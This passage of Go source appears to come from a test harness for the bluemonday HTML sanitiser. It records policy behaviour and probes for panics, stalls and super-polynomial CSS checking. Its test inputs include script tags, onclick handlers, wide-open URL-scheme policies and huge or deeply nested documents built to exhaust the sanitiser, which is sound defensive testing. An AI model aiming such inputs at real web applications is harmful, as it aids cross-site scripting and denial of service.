	"rotate3d(1,0.5,0.5,90)", "skew(10deg)", "matrix(1,2,3,4,5,6)", "perspective(100px)", "blur(5px)", "brightness(50%)", "contrast(50%)", "drop-shadow(1px 1px)",
	"drop-shadow(1px 1px 2px)", "grayscale(50%)", "hue-rotate(90)", "invert(50%)", "opacity(50%)", "saturate(50%)", "sepia(50%)", "span 2", "digits 2", "1/2",
	"1 / 3", "a b", "'a b' 'c d'", "1fr", "repeat(2,1fr)", "minmax(1px,2px)", "left top", "10px 20px", "center center", "1 1", "counter", "myanim", "all 1s",
	"x", "abc", "a,b", "1.0", "0.0", "00", ".5"}

func cmdCSSVocab(args []string) int {
	src, err := os.ReadFile(args[0]) // path of css/handlers.go
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	cands := map[string]bool{}
	for _, m := range regexp.MustCompile(`"([a-z0-9][a-z0-9 -]{0,30})"`).FindAllStringSubmatch(string(src), -1) {
		cands[m[1]] = true
	}
	for _, a := range cssSynthAtoms {
		cands[a] = true
	}
	list := SortedKeys(cands)
	props := css.VerifDefaultHandlerNames()
	sort.Strings(props)
	out := map[string][]string{}
	for _, p := range props {
		h := css.GetDefaultHandler(p)
		acc := []string{}
		for _, a := range list {
			if strings.ContainsAny(a, "\\<>@") || strings.Contains(a, "javascript") || strings.Contains(a, "expression") {
				continue
			}
			if safeCall(h, a) {
				acc = append(acc, a)
			}
		}
		out[p] = diverse(acc)
	}
	os.WriteFile(args[1], JSON(out), 0o644)
	n := 0
	for _, v := range out {
		n += len(v)
	}
	fmt.Printf("cssvocab: %d properties, %d accepted atoms, %d candidates\n", len(out), n, len(list))
	return 0
}

// diverse keeps at most two atoms of each shape (keyword, number, length, colour, function, url,
// quoted, several words ...), at most 12 in all.
func diverse(acc []string) []string {
	shape := func(a string) string {
		switch {
		case strings.HasPrefix(a, "url("):
			return "url"
		case strings.Contains(a, "("):
			return "fn:" + a[:strings.Index(a, "(")]
		case strings.HasPrefix(a, "#"):
			return "hex"
		case strings.ContainsAny(a, "'\""):
			return "quoted"
		case strings.Contains(a, " ") || strings.Contains(a, ",") || strings.Contains(a, "/"):
			return "multi"
		case regexp.MustCompile(`^-?[0-9.]+$`).MatchString(a):
			return "number"
		case regexp.MustCompile(`^-?[0-9.]+[a-z%]+$`).MatchString(a):
			return "dim"
		case a == "inherit" || a == "initial":
			return "global"
		}
		return "kw"
	}
	n := map[string]int{}
	out := []string{}
	for _, a := range acc {
		sh := shape(a)
		lim := 2
		if strings.HasPrefix(sh, "fn:") {
			lim = 1
		}
		if n[sh] < lim && len(out) < 12 {
			n[sh]++
			out = append(out, a)
		}
	}
	return out
}

func init() { Commands["cssvocab"] = cmdCSSVocab }
