package h

import (
	"encoding/base64"
	"flag"
	"fmt"
	"math/rand"
	"os"
	"time"
)

// CallIndex lets the runner map a diverging trace line back to an execution.
type CallIndex struct {
	FirstLine int    `json:"first_line"`
	LastLine  int    `json:"last_line"`
	Session   int    `json:"session"`
	Recipe    Recipe `json:"recipe"`
	InputB64  string `json:"input_b64"`
	Input     string `json:"input_printable"`
	Output    string `json:"output_printable"`
}

// cmdRecord: drive the real code with seeded generators, hooks on; write the trace, the facts it
// needs, an index of calls, and the verdicts of the property oracles on every execution.
//
//	vh record -props C01,C05 -seed 1 -sessions 40 -calls 25 -kinds 0,1,2,3,4,5 -trace t.ndjson -facts f.json -index i.json -out r.json
func cmdRecord(args []string) int {
	fs := flag.NewFlagSet("record", flag.ExitOnError)
	props := fs.String("props", "", "properties whose oracles decide")
	seed := fs.Int64("seed", 1, "seed")
	sessions := fs.Int("sessions", 20, "number of policies")
	calls := fs.Int("calls", 20, "documents per policy")
	kinds := fs.String("kinds", "0,1,2,3,4,5", "document generator kinds")
	tracePath := fs.String("trace", "trace.ndjson", "")
	factsPath := fs.String("facts", "facts.json", "")
	indexPath := fs.String("index", "", "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "record", "")
	noUnsafe := fs.Bool("nounsafe", true, "never AllowUnsafe(true)")
	noStyles := fs.Bool("nostyles", false, "no style rules")
	fixed := fs.String("recipes", "", "comma-separated shipped constructors to cycle through instead of random recipes (ugc,strict)")
	fs.Parse(args)
	kindList := []int{}
	for _, k := range splitProps(*kinds) {
		var n int
		fmt.Sscan(k, &n)
		kindList = append(kindList, n)
	}
	tf, err := os.Create(*tracePath)
	if err != nil {
		fmt.Fprintln(os.Stderr, "record:", err)
		return 2
	}
	defer tf.Close()
	tw := NewTraceWriter(tf)
	rng := rand.New(rand.NewSource(*seed))
	res := &RunResult{Job: *job}
	seenV := map[string]bool{}
	nontrivial := map[string]bool{}
	index := []CallIndex{}
	for s := 0; s < *sessions; s++ {
		// a permissive policy sees every input of every session just before the policy under test does: whatever the library
		// remembers across policies (a verdict cache keyed by value, say) is primed with the permissive verdict
		perm := Recipe{{M: "UGCPolicy"}, {M: "AllowURLSchemesMatching", Pat: "^.*$"}, {M: "AllowRelativeURLs", B: true}, {M: "AllowDataURIImages"},
			{M: "AllowAttrs", Attrs: []string{"href", "src", "cite", "style", "onclick", "id", "class", "rel", "target", "title", "alt", "width", "dir", "lang", "type", "value", "name", "sandbox", "crossorigin"}, Scope: "glob"},
			{M: "AllowElements", Names: []string{"iframe", "form", "input", "button", "textarea", "meta", "base", "svg", "math", "font", "custom-x", "x-foo"}},
			{M: "AllowStyles", Props: []string{"color", "background", "width", "font-size", "text-align", "font-family"}, Scope: "glob"}, {M: "AllowComments"}, {M: "AllowDataAttributes"}}
		for i := range perm {
			perm[i].norm()
		}
		permissive := BuildReal(perm)
		recipe := GenRecipe(rng, GenOpts{NoUnsafe: *noUnsafe, NoStyles: *noStyles})
		if fl := splitProps(*fixed); len(fl) > 0 {
			// a decoy first: some other policy derived from a shipped constructor is built, extended and used
			// in the same process before the policy under test is constructed
			decoy := append(Recipe{}, recipe...)
			decoy[0] = Call{M: []string{"UGCPolicy", "StrictPolicy", "NewPolicy"}[s%3]}
			decoy[0].norm()
			decoy = append(decoy, Call{M: "AllowStyles", Props: []string{"color"}, Scope: "els", Els: []string{"span", "p", "a"}},
				Call{M: "AllowAttrs", Attrs: []string{"style", "onclick"}, Scope: "glob"}, Call{M: "AllowElements", Names: []string{"script", "iframe", "form"}})
			for i := range decoy {
				decoy[i].norm()
			}
			BuildReal(decoy).Sanitize(`<p style="color: red" onclick="x">d<script>1</script></p>`)
			m := map[string]string{"ugc": "UGCPolicy", "strict": "StrictPolicy", "new": "NewPolicy"}[fl[s%len(fl)]]
			c := Call{M: m}
			c.norm()
			recipe = Recipe{c}
		}
		sess := tw.BuildSession(recipe)
		for _, d := range sess.BuildDiffs {
			res.diverge("builder: %s", d)
		}
		extendAt, prior := 0, [][]byte{}
		for c := 0; c < *calls; c++ {
			// half-way through, every other session extends its policy with rule calls drawn from another random recipe: a
			// policy that has been used is still a policy under construction
			if c == *calls/2 && c > 0 && s%2 == 1 && len(splitProps(*fixed)) == 0 {
				extra := GenRecipe(rng, GenOpts{NoUnsafe: *noUnsafe, NoStyles: *noStyles})
				k, reported := 0, len(sess.BuildDiffs)
				extendAt = len(sess.Recipe)
				// (always including element patterns the policy did not have while it was being used)
				for _, pat := range genPats {
					if _, has := sess.Model.PatAttrs[pat]; !has && k < 2 {
						if k == 0 {
							tw.Extend(sess, Call{M: "AllowElementsMatching", Pat: pat})
						} else {
							tw.Extend(sess, Call{M: "AllowAttrs", Attrs: []string{"title", "class"}, Scope: "pat", Pat: pat, NoAttrs: false})
						}
						k++
					}
				}
				k = 0
				for _, xc := range extra[1:] {
					if k < 3 && isRuleCall(xc.M) {
						tw.Extend(sess, xc)
						k++
					}
				}
				for _, d := range sess.BuildDiffs[reported:] {
					res.diverge("builder: %s", d)
				}
				recipe = sess.Recipe
			}
			_, b := GenDoc(rng, sess.Model, kindList[rng.Intn(len(kindList))])
			first := tw.Lines + 1
			if permissive != nil {
				func() {
					defer func() { recover() }() // a panic here is the permissive policy's; the policy under test is judged below
					permissive.SanitizeBytes(append([]byte{}, b...))
				}()
			}
			t0 := time.Now()
			cr := tw.Sanitize(sess, b)
			dur := time.Since(t0)
			res.Execs++
			res.Cases++
			x := NewExec(recipe, sess.Model, sess.Real, b, cr.Output, cr.Rec)
			x.Dur = dur
			if extendAt > 0 {
				x.ExtendAt, x.Prior = extendAt, prior
			} else if len(prior) < 40 {
				prior = append(prior, b)
			}
			if cr.Rec.Panic != "" {
				res.diverge("panic %s on %q", cr.Rec.Panic, b)
			}
			if string(cr.Output) != string(b) {
				nontrivial[string(JSON(recipe))+"|"+string(b)] = true
			}
			if len(res.Samples) < 3 && len(b) > 10 {
				res.Samples = append(res.Samples, map[string]interface{}{"recipe": recipeSummary(recipe), "input": printable(b), "output": printable(cr.Output)})
			}
			index = append(index, CallIndex{FirstLine: first, LastLine: tw.Lines, Session: s, Recipe: recipe,
				InputB64: base64.StdEncoding.EncodeToString(b), Input: printable(b), Output: printable(cr.Output)})
			res.judge(splitProps(*props), x, seenV)
			// the same input through the string entry point: should it produce other bytes, they are judged as well
			if cr.Rec.Panic == "" {
				alt, altPanic := "", ""
				func() {
					defer func() {
						if e := recover(); e != nil {
							altPanic = fmt.Sprint(e)
						}
					}()
					alt = sess.Real.Sanitize(string(b))
				}()
				if altPanic != "" {
					prec := *cr.Rec
					prec.Panic = "Sanitize(string): " + altPanic
					res.judge(splitProps(*props), NewExec(recipe, sess.Model, sess.Real, b, nil, &prec), seenV)
				} else if alt != string(cr.Output) {
					res.judge(splitProps(*props), NewExec(recipe, sess.Model, sess.Real, b, []byte(alt), cr.Rec), seenV)
				}
			}
		}
	}
	tw.Flush()
	if err := os.WriteFile(*factsPath, JSON(tw.Facts), 0o644); err != nil {
		fmt.Fprintln(os.Stderr, "record:", err)
		return 2
	}
	if *indexPath != "" {
		os.WriteFile(*indexPath, JSON(index), 0o644)
	}
	res.Nontrivial = len(nontrivial)
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("record: sessions=%d execs=%d lines=%d divergences=%d violations=%d\n", *sessions, res.Execs, tw.Lines, res.Divergences, len(res.Violations))
	return 0
}

func recipeSummary(r Recipe) []string {
	out := []string{}
	for _, c := range r {
		s := c.M
		switch c.M {
		case "AllowAttrs":
			s += fmt.Sprintf("%v match=%q noattrs=%v %s %v %s", c.Attrs, c.Match, c.NoAttrs, c.Scope, c.Els, c.Pat)
		case "AllowStyles":
			s += fmt.Sprintf("%v %s%s%s %s %v %s", c.Props, c.Handler, c.Enum, c.Re, c.Scope, c.Els, c.Pat)
		case "AllowElements", "SkipElementsContent", "AllowElementsContent":
			s += fmt.Sprint(c.Names)
		case "AllowElementsMatching", "AllowURLSchemesMatching":
			s += "(" + c.Pat + ")"
		case "AllowURLSchemes":
			s += fmt.Sprint(c.Schemes)
		case "AllowURLSchemeWithCustomPolicy":
			s += "(" + c.Scheme + "," + c.Fid + ")"
		case "RequireSandboxOnIFrame", "AllowIFrames":
			s += fmt.Sprint(c.Vals)
		default:
			if c.B {
				s += "(true)"
			}
		}
		out = append(out, s)
	}
	return out
}

func init() { Commands["record"] = cmdRecord }
