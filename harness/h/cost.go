package h

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"runtime"
	"sort"
	"strings"
	"sync"
	"time"

	bm "github.com/microcosm-cc/bluemonday"
	"github.com/microcosm-cc/bluemonday/css"
)

// C14: sanitising always returns promptly and never panics.

type costCase struct {
	Fam   string  `json:"fam"`
	N     int     `json:"n"`
	NF    int     `json:"nf"`
	Acc   [][]int `json:"acc"`
	OK    bool    `json:"ok"`
	Calls int     `json:"calls"`
}

type budgetExceeded struct{ n int }

// polyBudget is the generous low-degree bound a non-exponential implementation stays under.
func polyBudget(n, nf int) int { return 4*nf*n*n + 16 }

// CostReplayFile reproduces a C14 finding.
type CostReplayFile struct {
	Property string  `json:"property"`
	Key      string  `json:"key"`
	Detail   string  `json:"detail"`
	Kind     string  `json:"kind"` // matrix | style | input
	N        int     `json:"n,omitempty"`
	NF       int     `json:"nf,omitempty"`
	Acc      [][]int `json:"acc,omitempty"`
	Recipe   Recipe  `json:"recipe,omitempty"`
	Input    string  `json:"input,omitempty"`
	Budget   int     `json:"budget,omitempty"`
}

func writeCostReplay(rf CostReplayFile) string {
	rf.Property = "C14"
	os.MkdirAll(ReplayDir(), 0o755)
	path := fmt.Sprintf("%s/C14-%08x.json", ReplayDir(), hashString(string(JSON(rf))))
	os.WriteFile(path, JSON(rf), 0o644)
	return path
}

// runMatrix drives the real recursiveCheck with handlers answering from a verdict matrix.
func runMatrix(n, nf int, acc [][]int, budget int) (ok bool, calls int, aborted bool) {
	set := map[[3]int]bool{}
	for _, t := range acc {
		set[[3]int{t[0], t[1], t[2]}] = true
	}
	toks := make([]string, n)
	for i := range toks {
		toks[i] = fmt.Sprintf("t%d", i+1)
	}
	funcs := []func(string) bool{}
	for f := 1; f <= nf; f++ {
		f := f
		funcs = append(funcs, func(s string) bool {
			calls++
			if calls > budget {
				panic(budgetExceeded{calls})
			}
			parts := strings.Split(s, " ")
			var i, j int
			fmt.Sscanf(parts[0], "t%d", &i)
			fmt.Sscanf(parts[len(parts)-1], "t%d", &j)
			return set[[3]int{i, j, f}]
		})
	}
	defer func() {
		if e := recover(); e != nil {
			if _, isB := e.(budgetExceeded); isB {
				aborted = true
				return
			}
			panic(e)
		}
	}()
	ok = css.VerifRecursiveCheck(toks, funcs)
	return
}

func cmdReplayCost(args []string) int {
	fs := flag.NewFlagSet("replaycost", flag.ExitOnError)
	_ = fs.String("fam", "", "")
	_ = fs.String("props", "", "")
	_ = fs.Int("variants", 1, "")
	_ = fs.Int64("seed", 1, "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "replaycost", "")
	fs.Parse(args)
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	seen := map[string]bool{}
	in := bufio.NewReaderSize(os.Stdin, 1<<20)
	for {
		line, err := in.ReadString('\n')
		if js, ok := parseCaseLine(strings.TrimRight(line, "\r\n")); ok {
			var c costCase
			if e := json.Unmarshal([]byte(js), &c); e != nil {
				fmt.Fprintln(os.Stderr, "replaycost: bad case:", e)
				return 2
			}
			res.Cases++
			res.Execs++
			res.Applicable["C14"]++
			budget := polyBudget(c.N, c.NF)
			ok, calls, aborted := runMatrix(c.N, c.NF, c.Acc, budget)
			if c.Calls > 1 {
				res.Nontrivial++
			}
			if aborted {
				key := "superpolynomial:" + c.Fam
				if !seen[key] || len(res.Violations) < 4 {
					seen[key] = true
					det := fmt.Sprintf("recursiveCheck on %d tokens with %d handlers (verdict matrix family %s) made more than %d handler calls (the specification's algorithm needs %d; bound nf*n(n+1)/2 = %d): super-polynomial", c.N, c.NF, c.Fam, budget, c.Calls, c.NF*c.N*(c.N+1)/2)
					res.Violations = append(res.Violations, ViolationRec{Finding{"C14", key, det}, writeCostReplay(CostReplayFile{Key: key, Detail: det, Kind: "matrix", N: c.N, NF: c.NF, Acc: c.Acc, Budget: budget})})
				}
				continue
			}
			if ok != c.OK {
				res.diverge("recursiveCheck verdict on matrix n=%d nf=%d acc=%v: real %v spec %v", c.N, c.NF, c.Acc, ok, c.OK)
			} else if calls != c.Calls {
				res.diverge("recursiveCheck handler calls on matrix n=%d nf=%d acc=%v: real %d spec %d", c.N, c.NF, c.Acc, calls, c.Calls)
			}
			if len(res.Samples) < 3 && c.N >= 3 && len(c.Acc) > 2 {
				res.Samples = append(res.Samples, map[string]interface{}{"n": c.N, "nf": c.NF, "accepted": c.Acc, "spec_ok": c.OK, "spec_calls": c.Calls, "real_calls": calls})
			}
		}
		if err != nil {
			break
		}
	}
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("replaycost: cases=%d divergences=%d violations=%d\n", res.Cases, res.Divergences, len(res.Violations))
	return 0
}

var costAtoms = []string{"inherit", "initial", "none", "auto", "0", "1px", "2em", "10%", "red", "#fff", "solid", "dotted", "underline", "center", "normal",
	"bold", "1", "left", "top", "thin", "medium", "row", "wrap", "ease", "1s", "all", "italic", "small-caps", "serif", "repeat", "scroll", "border-box",
	"url(http://e.com/a.png)", "stretch", "inside", "disc", "span 2", "block", "hidden", "both", "static", "nowrap", "uppercase", "baseline", "visible"}

// sanitizeCounted runs Policy.Sanitize with a budget on recursiveCheck invocations.
func sanitizeCounted(p *bm.Policy, input string, budget int) (out string, count int, aborted bool, panicMsg string, dur time.Duration) {
	css.VerifCount = func() {
		count++
		if count > budget {
			panic(budgetExceeded{count})
		}
	}
	defer func() { css.VerifCount = nil }()
	defer func() {
		if e := recover(); e != nil {
			if _, isB := e.(budgetExceeded); isB {
				aborted = true
				return
			}
			panicMsg = fmt.Sprint(e)
		}
	}()
	t0 := time.Now()
	out = p.Sanitize(input)
	dur = time.Since(t0)
	return
}

// cmdCostCheck: end-to-end adversarial families whose size parameter grows.
func cmdCostCheck(args []string) int {
	fs := flag.NewFlagSet("costcheck", flag.ExitOnError)
	seed := fs.Int64("seed", 1, "")
	deep := fs.Bool("deep", false, "thorough sizes")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "costcheck", "")
	fs.Parse(args)
	rng := rand.New(rand.NewSource(*seed))
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	seen := map[string]bool{}
	add := func(key, det string, rf CostReplayFile) {
		if !seen[key] || len(res.Violations) < 6 {
			seen[key] = true
			rf.Key, rf.Detail = key, det
			res.Violations = append(res.Violations, ViolationRec{Finding{"C14", key, det}, writeCostReplay(rf)})
		}
	}
	// (0) failures that cannot be recovered from (unbounded recursion: "fatal error: stack overflow") kill the process, so the
	// entry points are first tried in a child process: every entry point, destinations with and without WriteString
	if os.Getenv("VERIF_CHILD_PROBE") == "" {
		cmd := exec.Command(os.Args[0], "costcheck", "-job", "child-probe")
		cmd.Env = append(os.Environ(), "VERIF_CHILD_PROBE=1")
		out, err := cmd.CombinedOutput()
		res.Execs++
		if err != nil {
			txt := string(out)
			if i := strings.Index(txt, "fatal error"); i >= 0 {
				txt = txt[i:]
			}
			if len(txt) > 600 {
				txt = txt[:600]
			}
			add("fatal:entry-points", fmt.Sprintf("a child process that calls every entry point once on a small document died: %v: %s", err, txt),
				CostReplayFile{Kind: "input", Input: "child probe: Sanitize, SanitizeBytes, SanitizeReader, SanitizeReaderToWriter (string and plain destinations) on <p>Hello <b>w</b></p>"})
		}
	} else {
		p := bm.UGCPolicy()
		in := `<p>Hello <b>world</b> <a href="http://e.com/">l</a></p><!-- c --><script>x</script>`
		p.Sanitize(in)
		p.SanitizeBytes([]byte(in))
		p.SanitizeReader(strings.NewReader(in))
		var sb strings.Builder
		p.SanitizeReaderToWriter(strings.NewReader(in), &sb)
		var pd plainDest
		p.SanitizeReaderToWriter(strings.NewReader(in), &pd)
		os.Exit(0)
	}
	// a stall watchdog for the sweeps below: every call announces its input; if the announcement does not change for 30 s the
	// call is stuck (it cannot be cancelled), so the finding is recorded, the result written and the process left
	var curMu sync.Mutex
	curInput, curSeq, curRecipe := "", 0, Recipe(nil)
	announce := func(r Recipe, in string) {
		curMu.Lock()
		curInput, curRecipe = in, r
		curSeq++
		curMu.Unlock()
	}
	go func() {
		last, since := -1, time.Now()
		for {
			time.Sleep(500 * time.Millisecond)
			curMu.Lock()
			seq, in, rc := curSeq, curInput, curRecipe
			curMu.Unlock()
			if seq != last {
				last, since = seq, time.Now()
				continue
			}
			if in != "" && time.Since(since) > 30*time.Second {
				curMu.Lock()
				add("no-return:short-input", fmt.Sprintf("Sanitize did not return within 30 s on the %d-byte input %q", len(in), in), CostReplayFile{Kind: "style", Recipe: rc, Input: in, Budget: 1 << 40})
				res.Cases = res.Execs
				if *outPath != "" {
					os.WriteFile(*outPath, JSON(res), 0o644)
				}
				fmt.Printf("costcheck: execs=%d violations=%d (left early: stuck on %q)\n", res.Execs, len(res.Violations), in)
				os.Exit(0)
			}
		}
	}()
	// (1) every default CSS handler: repeated tokens in shorthand values
	props := css.VerifDefaultHandlerNames()
	sort.Strings(props)
	sizes := []int{8, 16, 24}
	if *deep {
		sizes = []int{8, 16, 24, 32, 64, 128}
	}
	families := 0
	for _, prop := range props {
		h := css.GetDefaultHandler(prop)
		recipe := Recipe{{M: "NewPolicy"}, {M: "AllowElements", Names: []string{"span"}}, {M: "AllowStyles", Props: []string{prop}, Scope: "glob"}}
		for i := range recipe {
			recipe[i].norm()
		}
		p := BuildReal(recipe)
		for _, a := range costAtoms {
			if !(safeCall(h, a) && safeCall(h, a+" "+a)) {
				continue
			}
			families++
			for _, n := range sizes {
				for _, tail := range []string{" x!", ""} {
					val := strings.TrimSpace(strings.Repeat(a+" ", n)) + tail
					input := `<span style="` + prop + `: ` + val + `">t</span>`
					budget := 2000 + 50*n*n*n
					_, count, aborted, pm, dur := sanitizeCounted(p, input, budget)
					res.Execs++
					res.Applicable["C14"]++
					if pm != "" {
						add("panic:"+prop, fmt.Sprintf("Sanitize panicked on %q: %s", input, pm), CostReplayFile{Kind: "style", Recipe: recipe, Input: input, Budget: budget})
					}
					if aborted {
						add("superpolynomial:"+prop, fmt.Sprintf("style value of %d tokens (%d bytes) for %s needs more than %d recursiveCheck invocations: a short input stalls the sanitiser", n, len(val), prop, budget),
							CostReplayFile{Kind: "style", Recipe: recipe, Input: input, Budget: budget})
						break
					}
					if dur > 10*time.Second {
						add("slow:"+prop, fmt.Sprintf("style value of %d tokens for %s took %v", n, prop, dur), CostReplayFile{Kind: "style", Recipe: recipe, Input: input, Budget: budget})
					}
					if len(res.Samples) < 3 && n == 16 {
						res.Samples = append(res.Samples, map[string]interface{}{"property": prop, "tokens": n, "recursiveCheck_invocations": count, "input": input[:60] + "..."})
					}
				}
			}
		}
	}
	// (1b) every default handler on every short combination of value atoms (its own keywords, lengths, colours, the words that
	// introduce optional parts such as inset, and separators): none may panic
	sweepAtoms := append(append([]string{}, costAtoms...), "inset", "5px", "-1px", ",", "/", "rgb(0,0,0)", "0.5", "auto-fill", "\"a\"", "a", "")
	for _, prop := range props {
		h := css.GetDefaultHandler(prop)
		try := func(v string) {
			res.Execs++
			if _, pm := callHandler(h, v); pm != "" {
				input := `<span style="` + prop + `: ` + v + `">t</span>`
				recipe := Recipe{{M: "NewPolicy"}, {M: "AllowElements", Names: []string{"span"}}, {M: "AllowStyles", Props: []string{prop}, Scope: "glob"}}
				for i := range recipe {
					recipe[i].norm()
				}
				_, _, _, pm2, _ := sanitizeCounted(BuildReal(recipe), input, 1000000)
				if pm2 != "" {
					add("panic:"+prop, fmt.Sprintf("Sanitize panicked on %q: %s", input, pm2), CostReplayFile{Kind: "style", Recipe: recipe, Input: input, Budget: 1000000})
				}
			}
		}
		for _, a := range sweepAtoms {
			try(a)
			for _, b := range sweepAtoms {
				try(a + " " + b)
				try(a + ", " + b)
			}
		}
		for _, a := range []string{"inset", "none", "0", "5px", "red", ","} {
			for _, b := range []string{"inset", "5px", "red", ",", "/"} {
				for _, c := range []string{"inset", "5px", "red", "1", ","} {
					try(a + " " + b + " " + c)
				}
			}
		}
	}
	// (2) deep nesting, long attribute lists, many CSS escapes, many links: time must not blow up
	ugc := Recipe{{M: "UGCPolicy"}, {M: "AllowStyles", Props: []string{"color", "font-family", "border", "background"}, Scope: "glob"}, {M: "AllowDataURIImages"},
		{M: "AllowAttrs", Attrs: []string{"src", "href", "cite", "rel", "target"}, Scope: "els", Els: []string{"img", "a", "q", "audio", "iframe", "source", "input"}},
		{M: "AllowElementsMatching", Pat: "^custom-"}, {M: "RewriteSrc", Fid: "f:" + FuncName(RewriteProxy)}, {M: "AddTargetBlankToFullyQualifiedLinks", B: true},
		// two element patterns that overlap (custom-x matches both), with attribute and style rules
		{M: "AllowAttrs", Attrs: []string{"title"}, Scope: "pat", Pat: "^custom-"}, {M: "AllowAttrs", Attrs: []string{"class"}, Scope: "pat", Pat: "-x$"},
		{M: "AllowStyles", Props: []string{"color"}, Scope: "pat", Pat: "^custom-"}, {M: "AllowStyles", Props: []string{"width"}, Scope: "pat", Pat: "-x$"}}
	for i := range ugc {
		ugc[i].norm()
	}
	pu := BuildReal(ugc)
	gens := map[string]func(n int) string{
		"deep-nesting": func(n int) string {
			return strings.Repeat("<div><a><custom-x><object>", n) + "x" + strings.Repeat("</object></custom-x></a></div>", n)
		},
		"unclosed": func(n int) string { return strings.Repeat("<a><b><img>", n) },
		"end-tags": func(n int) string { return strings.Repeat("</a></object></div>", n) },
		"attr-list": func(n int) string {
			return "<a " + strings.Repeat(`href="http://e.com/" rel="x" target=_top title=t `, n) + ">x</a>"
		},
		"css-escapes":   func(n int) string { return `<span style="color: ` + strings.Repeat(`\72 `, n) + `">x</span>` },
		"css-decls":     func(n int) string { return `<span style="` + strings.Repeat(`color: red; `, n) + `">x</span>` },
		"rel-tokens":    func(n int) string { return `<a href="http://e.com/" rel="` + strings.Repeat("nofollo ", n) + `">x</a>` },
		"entities":      func(n int) string { return strings.Repeat("&amp;&lt;&#x41;&notit;", n) },
		"comments":      func(n int) string { return strings.Repeat("<!-- c --><!x><?y?>", n) },
		"data-uri":      func(n int) string { return `<img src="data:image/png;base64,` + strings.Repeat("iVBORw0K", n) + `">` },
		"lt-flood":      func(n int) string { return strings.Repeat("<", n) + strings.Repeat("<a ", n) },
		"font-families": func(n int) string { return `<span style="font-family: ` + strings.Repeat("a, ", n) + `b">x</span>` },
		"pattern-elements": func(n int) string {
			return strings.Repeat(`<custom-x title="t" class="c" style="color: red; width: 1px">x</custom-x>`, n)
		},
	}
	// every URL value of the catalogue in every src/href/cite position, with every policy feature on: must return normally
	for _, el := range []string{"img", "a", "q", "audio", "iframe", "source", "input"} {
		for _, k := range []string{"src", "href", "cite"} {
			for _, v := range genURLVals {
				input := string(Serialise([]Tok{{T: "start", N: el, A: []Attr{{k, v}, {"rel", "x"}, {"target", "_top"}}}}, nil))
				announce(ugc, input)
				_, _, _, pm, _ := sanitizeCounted(pu, input, 100000)
				res.Execs++
				if pm != "" {
					add("panic:url", fmt.Sprintf("Sanitize panicked on %q: %s", input, pm), CostReplayFile{Kind: "style", Recipe: ugc, Input: input, Budget: 100000})
				}
			}
		}
	}
	// every style value of the catalogue (escapes of every kind, comments, malformed tails) on elements with style rules
	for _, el := range []string{"span", "custom-x", "p"} {
		for _, v := range genStyleVals {
			input := string(Serialise([]Tok{{T: "start", N: el, A: []Attr{{"style", v}, {"title", "t"}}}}, nil))
			announce(ugc, input)
			_, _, _, pm, _ := sanitizeCounted(pu, input, 100000)
			res.Execs++
			if pm != "" {
				add("panic:style", fmt.Sprintf("Sanitize panicked on %q: %s", input, pm), CostReplayFile{Kind: "style", Recipe: ugc, Input: input, Budget: 100000})
			}
		}
	}
	announce(nil, "")
	names := []string{}
	for k := range gens {
		names = append(names, k)
	}
	sort.Strings(names)
	top := 2048
	if *deep {
		top = 16384
	}
	for _, name := range names {
		var prev time.Duration
		for n := top / 8; n <= top; n *= 2 {
			input := gens[name](n)
			// under a watchdog: a call that does not come back (or eats memory without bound) cannot be cancelled, so the
			// finding is recorded, the result written and the process left at once
			type outcome struct {
				aborted bool
				pm      string
				dur     time.Duration
			}
			ch := make(chan outcome, 1)
			go func() {
				_, _, ab, pm, d := sanitizeCounted(pu, input, 50*n+100000)
				ch <- outcome{ab, pm, d}
			}()
			var oc outcome
			stuck := ""
			tick := time.NewTicker(250 * time.Millisecond)
			deadline := time.After(90 * time.Second)
		wait:
			for {
				select {
				case oc = <-ch:
					break wait
				case <-tick.C:
					var ms runtime.MemStats
					runtime.ReadMemStats(&ms)
					if ms.HeapAlloc > 6<<30 {
						stuck = fmt.Sprintf("generator %s n=%d (%d bytes): the heap passed %d MiB during one Sanitize call", name, n, len(input), ms.HeapAlloc>>20)
						break wait
					}
				case <-deadline:
					stuck = fmt.Sprintf("generator %s n=%d (%d bytes): Sanitize did not return within 90 s", name, n, len(input))
					break wait
				}
			}
			tick.Stop()
			if stuck != "" {
				add("no-return:"+name, stuck, CostReplayFile{Kind: "input", Recipe: ugc, Input: fmt.Sprintf("generator %s n=%d", name, n)})
				res.Cases = res.Execs
				if *outPath != "" {
					os.WriteFile(*outPath, JSON(res), 0o644)
				}
				fmt.Printf("costcheck: execs=%d violations=%d (left early: %s)\n", res.Execs, len(res.Violations), stuck)
				os.Exit(0)
			}
			aborted, pm, dur := oc.aborted, oc.pm, oc.dur
			res.Execs++
			res.Applicable["C14"]++
			rf := CostReplayFile{Kind: "input", Recipe: ugc, Input: fmt.Sprintf("generator %s n=%d", name, n)}
			if pm != "" {
				add("panic:"+name, fmt.Sprintf("Sanitize panicked on generator %s n=%d: %s", name, n, pm), rf)
			}
			if aborted {
				add("superlinear-css:"+name, fmt.Sprintf("generator %s n=%d (%d bytes) needs more than %d recursiveCheck invocations", name, n, len(input), 50*n+100000), rf)
			}
			// generous: a low-degree polynomial never takes 20 s for < 1 MB, nor grows 16x per doubling once measurable
			if dur > 20*time.Second || (prev > 200*time.Millisecond && dur > 16*prev) {
				add("slow:"+name, fmt.Sprintf("generator %s n=%d (%d bytes) took %v (previous size %v)", name, n, len(input), dur, prev), rf)
			}
			prev = dur
		}
	}
	// (3) single huge tokens (text, attribute value, comment, tag soup without '>'): every entry point must return
	hugeRecipe := Recipe{{M: "UGCPolicy"}, {M: "AllowComments"}}
	for i := range hugeRecipe {
		hugeRecipe[i].norm()
	}
	ph := BuildReal(hugeRecipe)
	size := 3 << 19 // 1.5 MiB
	huge := map[string]string{
		"huge-text":    strings.Repeat("x", size),
		"huge-attr":    `<a href="http://e.com/` + strings.Repeat("y", size) + `">l</a>`,
		"huge-comment": "<!--" + strings.Repeat("c", size) + "-->",
		"huge-tag":     "<b " + strings.Repeat("a ", size/2),
